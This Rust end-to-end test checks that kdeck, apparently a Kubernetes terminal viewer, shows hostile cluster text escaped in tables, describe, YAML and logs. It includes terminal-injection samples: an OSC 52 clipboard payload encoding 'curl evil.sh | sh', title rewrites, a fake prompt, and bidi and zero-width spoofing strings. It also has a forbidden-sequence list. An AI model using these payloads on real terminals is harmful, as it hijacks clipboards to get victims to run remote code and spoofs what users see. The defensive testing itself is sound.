//! End-to-end: hostile cluster text (the sim's `--hostile` fixture) is
//! shown, never obeyed or hidden. Through the pods and events tables,
//! describe and YAML of a hostile pod and its logs, the bytes kdeck writes
//! hold none of the hostile sequences, and the screen shows each of them
//! visibly (`␛]52;c;…`, `\u{202E}`).

use std::sync::OnceLock;

use kdeck_sim::SimConfig;
use kdeck_sim::testing::{Shared, start};
use kdeck_sim::world::hostile;

use crate::pty::Term;

fn sim() -> &'static Shared {
    static SIM: OnceLock<Shared> = OnceLock::new();
    SIM.get_or_init(|| {
        start(SimConfig {
            clusters: 1,
            pods: 30,
            namespaces: 1,
            seed: 17,
            log_rate: 4.0,
            hostile: true,
            ..SimConfig::default()
        })
    })
}

fn kdeck(s: &Shared) -> Term {
    let kc = s.kubeconfig.to_string_lossy().to_string();
    Term::spawn(
        &["--kubeconfig", &kc, "--context", "prod-eu", "-n", "hostile"],
        &[],
    )
}

/// What must never reach the terminal as written: escape sequences that
/// kdeck itself never sends (OSC, relative cursor moves, bells, C1) and the
/// characters that reorder or hide text.
fn forbidden() -> Vec<(&'static str, Vec<u8>)> {
    let mut v: Vec<(&str, Vec<u8>)> = vec![
        ("OSC", b"\x1b]".to_vec()),
        ("cursor up", b"\x1b[10A".to_vec()),
        ("BEL", b"\x07".to_vec()),
        ("backspace", b"\x08".to_vec()),
    ];
    for (name, c) in [
        ("C1 CSI", '\u{9b}'),
        ("RLO", '\u{202E}'),
        ("LRI", '\u{2066}'),
        ("RLI", '\u{2067}'),
        ("FSI", '\u{2068}'),
        ("PDI", '\u{2069}'),
        ("ZWSP", '\u{200B}'),
        ("ZWJ", '\u{200D}'),
        ("BOM", '\u{FEFF}'),
    ] {
        v.push((name, c.to_string().into_bytes()));
    }
    v
}

fn assert_clean(t: &Term, step: &str) {
    let raw = t.raw();
    for (name, bad) in forbidden() {
        if let Some(at) = raw.windows(bad.len()).position(|w| w == bad.as_slice()) {
            let from = at.saturating_sub(60);
            panic!(
                "{step}: {name} reached the terminal: {:?}",
                String::from_utf8_lossy(&raw[from..(at + 60).min(raw.len())])
            );
        }
    }
}

/// Whether `text` is on a log line of the screen with an odd number
/// (`… (line 17)`, the sim's JSON lines).
fn in_odd_line(screen: &str, text: &str) -> bool {
    screen.lines().any(|l| {
        l.contains(text)
            && l.rsplit("(line ")
                .next()
                .and_then(|n| n.trim_end().strip_suffix(')'))
                .and_then(|n| n.parse::<u64>().ok())
                .is_some_and(|n| n % 2 == 1)
    })
}

/// Wait until the screen shows all of `texts`.
fn wait_shows(t: &Term, secs: u64, what: &str, texts: &[&str]) -> String {
    t.wait(secs, what, |sc| texts.iter().all(|x| sc.contains(x)))
}

#[test]
fn hostile_text_is_shown_never_obeyed_in_tables_detail_yaml_and_logs() {
    let s = sim();
    let mut t = kdeck(s);

    // Pods: the failed pod's STATUS is a hostile termination reason.
    let sc = t.wait(30, "the hostile pods", |sc| {
        sc.contains("hostile-app") && sc.contains("hostile-long-name-")
    });
    let long_row = sc
        .lines()
        .find(|l| l.contains("hostile-long-name-"))
        .unwrap();
    assert!(long_row.contains("Error␛]52;c;"), "{long_row}");
    assert_clean(&t, "pods table");

    // Events: reasons and messages.
    t.typ(":ev");
    t.enter();
    wait_shows(
        &t,
        30,
        "hostile events, shown visibly",
        &[
            "ClipboardWrite",
            "clipboard write: ␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇",
            "title change: ␛]0;you have been pwned␇␛]2;pwned again␛\\",
            "attachment invoice-\\u{202E}txt.exe by \\u{2066}admin\\u{2069}",
            "pass\\u{200B}word jo\\u{200D}ined \\u{FEFF}bom",
            "␛[2J␛[H␛[10A␛[31mFAKE PROMPT$ ␛[0m \\u{9B}31mc1␇abc␈␈␈xyz",
            hostile::CJK,
        ],
    );
    assert_clean(&t, "events table");

    // Describe of the running pod: its annotations.
    t.typ(":po");
    t.enter();
    t.wait(20, "pods again", |sc| sc.contains("RESTARTS"));
    t.typ(&format!("/{}", hostile::POD));
    t.enter();
    t.wait(10, "one pod", |sc| sc.contains("[1]"));
    t.typ("d");
    wait_shows(
        &t,
        20,
        "describe, shown visibly",
        &[
            "Annotations:",
            "hostile.kdeck.dev/bidi=invoice-\\u{202E}txt.exe",
            "hostile.kdeck.dev/osc52=␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇",
            "hostile.kdeck.dev/isolates=\\u{2066}admin\\u{2069} \\u{2067}root\\u{2069}",
            "hostile.kdeck.dev/zero-width=pass\\u{200B}word",
            "👩\\u{200D}💻",
        ],
    );
    assert_clean(&t, "describe");

    // YAML: the serializer escapes controls (`\e`); kdeck shows the rest.
    t.typ("y");
    wait_shows(
        &t,
        20,
        "yaml, shown visibly",
        &[
            "kind: Pod",
            "hostile.kdeck.dev/osc52: \"\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a\"",
            "hostile.kdeck.dev/bidi: invoice-\\u{202E}txt.exe",
            "\\u{2066}admin\\u{2069}",
        ],
    );
    assert_clean(&t, "yaml");

    // Logs of the hostile pod: every line carries a hostile text.
    t.esc();
    t.wait(10, "the table", |sc| sc.contains("RESTARTS"));
    t.typ("l");
    wait_shows(
        &t,
        30,
        "hostile log lines, shown visibly",
        &[
            "hostile osc52: ␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇",
            "hostile title: ␛]0;you have been pwned␇␛]2;pwned again␛\\",
            "hostile bidi: invoice-\\u{202E}txt.exe",
            "hostile isolates: \\u{2066}admin\\u{2069}",
            "hostile zero-width: pass\\u{200B}word",
            "31mc1␇abc␈␈␈xyz",
            hostile::CJK,
            "🚀 deployed",
        ],
    );
    // The JSON lines (odd line numbers: the same texts escaped to ASCII,
    // `\u202e`) made readable show them as visibly as the plain lines.
    t.wait(30, "hostile JSON log lines, shown visibly", |sc| {
        [
            "hostile bidi: invoice-\\u{202E}txt.exe (line ",
            "hostile isolates: \\u{2066}admin\\u{2069}",
            "hostile zero-width: pass\\u{200B}word jo\\u{200D}ined \\u{FEFF}bom (line ",
        ]
        .iter()
        .all(|text| in_odd_line(sc, text))
    });
    assert_clean(&t, "logs");

    // Describe of the failed pod with the longest name and annotations
    // close to 256 KiB.
    t.esc();
    t.wait(10, "the table", |sc| sc.contains("RESTARTS"));
    t.esc();
    t.typ("/hostile-long");
    t.enter();
    t.wait(10, "the long pod", |sc| sc.contains("[1]"));
    t.typ("d");
    wait_shows(
        &t,
        20,
        "describe of the long pod",
        &[
            &hostile::long_pod_name()[..150],
            "hostile.kdeck.dev/huge=␛]52;c;",
        ],
    );
    // Past the 255 KiB annotation, to the container's hostile reason.
    t.typ("/Reason: Error");
    t.enter();
    t.wait(20, "the terminated container's reason", |sc| {
        sc.contains(
            "Terminated  Reason: Error␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇invoice-\\u{202E}txt.exe",
        )
    });
    assert_clean(&t, "describe of the long pod");
    t.esc();
    t.typ(":q");
    t.enter();
    assert_eq!(t.exit_code(10), Some(0));
    assert_clean(&t, "the whole session");
}
